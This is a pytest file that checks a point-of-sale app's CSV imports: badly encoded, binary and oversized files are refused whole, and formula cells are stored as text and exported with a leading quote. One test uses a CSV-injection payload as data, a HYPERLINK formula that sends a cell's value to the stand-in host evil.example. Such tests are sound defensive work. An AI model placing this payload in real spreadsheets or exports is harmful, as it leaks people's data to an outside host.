"""Bad files given to the imports: other encodings, binary files, oversized files and formula cells.
Each is refused whole with the reason (nothing written), or read literally and exported safely.

Part of the bad-input catalogue (docs/bad-input.md).
"""

from __future__ import annotations

import csv
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

import pos_app.services.import_files as import_files
import pos_app.services.order_import as order_import
from pos_app.controllers.app import AppControllers
from pos_app.services.csv_export import ExportKind, export_csv
from pos_app.services.csv_import import import_customers, import_items
from pos_app.services.import_files import CsvImportError
from pos_app.services.order_import import OrderImportError, import_orders

ITEMS_HEADER = "sku,barcode,name,price,stock,tax_rate"
CUSTOMERS_HEADER = "name,email,phone"
ORDERS_HEADER = "order_ref,created_at,customer_email,sku,quantity,unit_price"


def dump(db_path: Path) -> list[tuple[object, ...]]:
    """Everything a refused import must leave alone."""
    connection = sqlite3.connect(db_path)
    try:
        return [
            *connection.execute("SELECT * FROM items ORDER BY id"),
            *connection.execute("SELECT * FROM customers ORDER BY id"),
            *connection.execute("SELECT id, status, import_ref FROM orders ORDER BY id"),
        ]
    finally:
        connection.close()


@pytest.fixture
def shop(controllers: AppControllers, make_item: Callable[..., int]) -> AppControllers:
    make_item("Green tea", "2.00", sku="TEA", tax_rate="0")
    return controllers


BINARY = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (f"{ITEMS_HEADER}\nA-1,,Crème,1.00,1,0\n".encode("utf-16"), "the file contains a NUL character"),
        (f"{ITEMS_HEADER}\nA-1,,Crème,1.00,1,0\n".encode("utf-16-le"), "the file contains a NUL character"),
        (BINARY, "the file is neither UTF-8 nor Windows-1252 text"),
        (f"{ITEMS_HEADER}\nA-1,,Cr".encode() + b"\x81\x8d" + b"me,1.00,1,0\n", "the file is neither UTF-8"),
    ],
    ids=["utf-16-with-bom", "utf-16-le", "png-image", "undefined-bytes"],
)
def test_an_items_file_in_no_readable_encoding_is_refused_whole(
    shop: AppControllers, db_path: Path, tmp_path: Path, content: bytes, reason: str
) -> None:
    path = tmp_path / "items.csv"
    path.write_bytes(content)
    before = dump(db_path)

    with pytest.raises(CsvImportError) as caught:
        import_items(shop.uow, path)

    assert caught.value.reason.startswith(reason)
    assert dump(db_path) == before


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (f"{CUSTOMERS_HEADER}\nAnn,ann@example.com,\n".encode("utf-16"), "the file contains a NUL character"),
        (BINARY, "the file is neither UTF-8 nor Windows-1252 text"),
    ],
    ids=["utf-16", "png-image"],
)
def test_a_customers_file_in_no_readable_encoding_is_refused_whole(
    shop: AppControllers, db_path: Path, tmp_path: Path, content: bytes, reason: str
) -> None:
    path = tmp_path / "customers.csv"
    path.write_bytes(content)
    before = dump(db_path)

    with pytest.raises(CsvImportError) as caught:
        import_customers(shop.uow, path)

    assert caught.value.reason.startswith(reason)

    assert dump(db_path) == before


def test_a_utf16_orders_file_is_refused_whole(shop: AppControllers, db_path: Path, tmp_path: Path) -> None:
    path = tmp_path / "orders.csv"
    path.write_bytes(f"{ORDERS_HEADER}\nA,2026-01-02 09:00,,TEA,1,2.00\n".encode("utf-16"))
    before = dump(db_path)

    with pytest.raises(OrderImportError):
        import_orders(shop.uow, path, shop.settings)

    assert dump(db_path) == before


def test_an_oversized_customers_file_is_refused_before_reading(
    shop: AppControllers, db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(import_files, "MAX_FILE_BYTES", 1024 * 1024)
    path = tmp_path / "customers.csv"
    path.write_text(CUSTOMERS_HEADER + "\n" + "".join(f"P{n},p{n}@example.com,\n" for n in range(70_000)))
    before = dump(db_path)

    with pytest.raises(CsvImportError, match=r"the file is too large \(1\.\d MB, at most 1 MB\); split it"):
        import_customers(shop.uow, path)

    assert dump(db_path) == before


def test_an_oversized_orders_file_is_refused_before_reading(
    shop: AppControllers, db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(order_import, "MAX_FILE_BYTES", 1024 * 1024)
    path = tmp_path / "orders.csv"
    path.write_text(
        ORDERS_HEADER + "\n" + "".join(f"R{n},2026-01-02 09:00,,TEA,1,2.00\n" for n in range(40_000))
    )
    before = dump(db_path)

    with pytest.raises(OrderImportError) as caught:
        import_orders(shop.uow, path, shop.settings)

    assert str(caught.value).startswith("the file is too large (1.")
    assert "at most 1 MB); split it into smaller files" in str(caught.value)
    assert dump(db_path) == before


def test_formula_cells_are_imported_as_text_and_exported_harmless(
    shop: AppControllers, db_path: Path, tmp_path: Path
) -> None:
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    items = tmp_path / "items.csv"
    with items.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(ITEMS_HEADER.split(","))
        for n, formula in enumerate(formulas, start=1):
            writer.writerow([f"F-{n}", "", formula, "1.00", "1", "0"])

    import_items(shop.uow, items)
    exported = tmp_path / "export.csv"
    export_csv(shop.engine, ExportKind.ITEMS, exported)

    connection = sqlite3.connect(db_path)
    try:
        stored = [
            row[0] for row in connection.execute("SELECT name FROM items WHERE sku LIKE 'F-%' ORDER BY sku")
        ]
    finally:
        connection.close()
    assert stored == formulas  # kept exactly as given: a name is only text
    with exported.open(newline="", encoding="utf-8-sig") as file:
        names = [row[2] for row in csv.reader(file) if row[0].startswith("F-")]
    # A spreadsheet opening the export sees text, never a formula it would run.
    assert names == ["'" + formula for formula in formulas]
